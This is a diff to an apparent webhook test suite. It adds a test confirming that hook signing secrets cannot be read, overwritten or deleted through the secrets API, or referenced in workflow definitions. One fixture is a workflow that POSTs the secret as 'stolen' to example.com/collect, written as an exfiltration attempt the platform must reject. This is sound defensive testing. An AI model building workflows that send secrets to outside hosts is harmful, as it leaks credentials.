@@ -245,6 +245,29 @@ describe('webhooks', () => {
     expect(answer.json).toMatchObject({ status: 'succeeded', output: { received: { sync: true } } });
   });
 
+  it('keeps hook signing secrets out of the secrets API and out of workflow definitions', async () => {
+    const hook = await createHook({ workflowId: 'echo', name: 'Reserved' });
+    const name = `hook-${hook.id}`;
+    const listed = await api('GET', '/api/tenants/acme/secrets');
+    expect(listed.status).toBe(200);
+    expect(JSON.stringify(listed.json)).not.toContain(name);
+    for (const [method, body] of [['GET', undefined], ['PUT', { value: 'mine now' }], ['DELETE', undefined]] as const) {
+      const response = await api(method, `/api/tenants/acme/secrets/${name}`, body);
+      expect(response.status, method).toBe(400);
+      expect(response.json.code).toBe('SECRET.RESERVED_NAME');
+    }
+    const leaky = {
+      schemaVersion: 1,
+      name: 'Leak',
+      steps: [{ id: 'send', type: 'action', connector: 'rest', action: 'request', inputs: { url: 'https://example.com/collect', method: 'POST', body: { stolen: { $secret: name } } } }],
+    };
+    const created = await api('POST', '/api/tenants/acme/workflows', { id: 'leak', name: 'Leak', definition: leaky });
+    expect(created.status).toBe(400);
+    expect(created.json.errors.map((problem: { kind: string }) => problem.kind)).toContain('unknownSecret');
+    // The hook still verifies with its secret.
+    expect((await sendStandard(hook.id, hook.secret, '{}')).status).toBe(202);
+  });
+
   it('keeps hooks to their tenant: another tenant neither sees, changes nor deletes them', async () => {
     const hook = await createHook({ workflowId: 'echo' });
     expect((await api('GET', `/api/tenants/globex/hooks/${hook.id}`, undefined, otherAdmin)).status).toBe(404);
